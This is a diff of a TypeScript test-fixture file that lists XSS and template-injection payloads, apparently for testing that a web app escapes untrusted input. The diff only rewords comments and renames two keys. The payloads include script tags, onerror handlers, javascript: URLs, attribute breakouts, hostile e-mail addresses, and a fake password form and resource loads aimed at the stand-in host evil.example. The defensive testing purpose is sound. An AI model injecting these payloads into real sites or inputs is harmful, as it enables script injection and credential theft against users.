@@ -1,11 +1,11 @@
-/** What every payload sets on the window when it runs. In lower case, as e-mail addresses are. */
+/** The window property that every payload sets when it runs. In lower case, as e-mail addresses are. */
 export const MARK = 'hostileran';
-/** Where payloads would send what they find. */
+/** The host to which payloads would send their findings. */
 export const FOREIGN_HOST = 'evil.example';
 
 const run = `${MARK}=1`;
 
-/** Words that run, load or send something where a page takes them for more than words; at most 100 characters each. */
+/** Words that run, load or send something where a page takes them for markup; at most 100 characters each. */
 export const hostileMarkup = {
   script: `<script>${run};alert(1)</script>`,
   image: `<img src=x onerror="${run}">`,
@@ -16,8 +16,8 @@ export const hostileMarkup = {
   link: `<a href="javascript:${run}">Click here</a>`,
   'SVG link': `<svg><a xlink:href="javascript:${run}"><text y=9>pay</text></a></svg>`,
   form: `<form action="https://${FOREIGN_HOST}/"><input name=password><button>Sign in</button></form>`,
-  'picture elsewhere': `<img src="https://${FOREIGN_HOST}/seen">`,
-  'style elsewhere': `<link rel=stylesheet href=https://${FOREIGN_HOST}/x.css>`,
+  'foreign picture': `<img src="https://${FOREIGN_HOST}/seen">`,
+  'foreign style': `<link rel=stylesheet href=https://${FOREIGN_HOST}/x.css>`,
   'end of an attribute': `" autofocus onfocus="${run}" x="`,
   'end of a quoted attribute': `' autofocus onfocus='${run}' x='`,
   'end of a title': `</title></textarea></style></noscript><img src=x onerror=${run}>`,
@@ -26,7 +26,7 @@ export const hostileMarkup = {
   'javascript address': `javascript:${run}//`,
 } as const;
 
-/** Words that are harmless in HTML and must come out as they went in. */
+/** Words that are harmless in HTML and must be shown unchanged. */
 export const awkwardText = {
   'template braces': `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{7*7}`,
   'character references': '&lt;script&gt; &#60;b&#62; &amp;amp; &copy',
@@ -37,7 +37,7 @@ export const awkwardText = {
 
 export const hostileWords: string[] = [...Object.values(hostileMarkup), ...Object.values(awkwardText)];
 
-/** Addresses that mail systems deliver, and that hold what a template or an attribute would take for more than words. */
+/** Deliverable e-mail addresses with characters that templates or attributes may take for markup. */
 export const hostileEmails = [
   `'/onerror='${run}@test.example`,
   `{{constructor.constructor\`${run}\`}}@test.example`,
@@ -45,7 +45,7 @@ export const hostileEmails = [
   `${'w'.repeat(200)}@test.example`,
 ];
 
-/** What an administrator may give as a picture's address, however it looks. `pictures.example` is a foreign host. */
+/** Picture addresses that an administrator may enter. `pictures.example` is a foreign host. */
 export const hostilePictures = [
   `https://pictures.example/a.svg?"><script>${run}</script>`,
   `https://pictures.example/b.svg#'/onerror='${run}`,
